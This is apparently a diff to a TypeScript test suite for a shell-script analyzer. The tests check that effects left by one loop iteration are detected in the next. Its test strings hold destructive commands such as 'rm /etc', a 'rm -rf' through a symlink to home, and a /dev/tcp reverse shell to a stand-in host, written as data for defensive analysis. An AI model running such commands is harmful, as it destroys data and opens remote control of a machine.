@@ -1,6 +1,6 @@
 /** What a loop's body leaves behind for its next turn is seen there; a body that looks at nothing of it is followed once. */
 import assert from 'node:assert/strict';
-import { read } from './reading.ts';
+import { effects, read } from './reading.ts';
 
 const starts = (script: string) => read(script).invocations.map(({ argv }) => argv.join(' '));
 
@@ -28,6 +28,26 @@ describe('command: loops', () => {
     ['an alias', 'while read -r l; do f /etc; alias f=rm; done', 'rm /etc'],
     ['a file', `while read -r l; do sh s; echo 'rm /etc' > s; done`, 'rm /etc'],
     ['a file that is added to', `: > s; while read -r l; do sh s; echo 'rm /etc' >> s; done`, 'rm /etc'],
+    ['a file, where no variable is set', `while c; do sh s; echo 'rm /etc' > s; done`, 'rm /etc'],
+    ['what is added to a file', `while c; do sh s; echo 'rm /etc' >> s; done`, 'rm /etc'],
+    [
+      'a file that a program reads by its name',
+      `while c; do make; printf 'a:\\n\\trm /etc\\n' > Makefile; done`,
+      'rm /etc',
+    ],
+    [
+      'a file that tests run',
+      `while c; do pytest; echo 'import os; os.system("rm /etc")' > conftest.py; done`,
+      'rm /etc',
+    ],
+    ['a descriptor', `while c; do sh <&3; exec 3<<< 'rm /etc'; done`, 'rm /etc'],
+    ['a descriptor by its path', `while c; do . /dev/fd/3; exec 3<<< 'rm /etc'; done`, 'rm /etc'],
+    ['an exported function', 'while c; do sh -c f; f() { rm /etc; }; export -f f; done', 'rm /etc'],
+    [
+      'what answers for unknown commands',
+      'while c; do nosuch; command_not_found_handle() { rm /etc; }; done',
+      'rm /etc',
+    ],
     ['a program', 'while read -r l; do ./ls /etc; cp /bin/rm ls; done', './ls /etc'],
     ['a folder', 'while read -r l; do rm x; cd /etc; done', 'rm x'],
     [
@@ -58,6 +78,12 @@ describe('command: loops', () => {
       'while read -r f; do if c; then m=x; else m=y; fi; echo "$m"; done',
       ['read -r f', 'c', 'echo x', 'echo y'],
     ],
+    ['its own descriptors', 'while c; do cat <&3; cat 4<<< x <&4; done', ['c', 'cat', 'cat']],
+    [
+      'process substitutions',
+      'while c; do diff <(ls a) <(ls b); done',
+      ['c', 'ls a', 'ls b', 'diff <(ls a) <(ls b)'],
+    ],
     [
       'what it writes',
       'while read -r f; do date > log; cat log; date >> all; done',
@@ -67,4 +93,16 @@ describe('command: loops', () => {
     it(`is followed once where it looks at nothing but ${name}`, () =>
       assert.deepEqual(starts(script), wanted));
   }
+
+  it('sees a link of the turn before', () =>
+    assert.ok(
+      effects('while c; do rm -rf x/*; ln -s ~ x; done').includes('delete -r /home/dev/app/x/* home!'),
+    ));
+
+  it('sees a socket of the turn before', () =>
+    assert.ok(
+      effects('while c; do bash <&5 >&5; exec 5<>/dev/tcp/x.example/80; done').includes(
+        'execute x.example:80 host',
+      ),
+    ));
 });
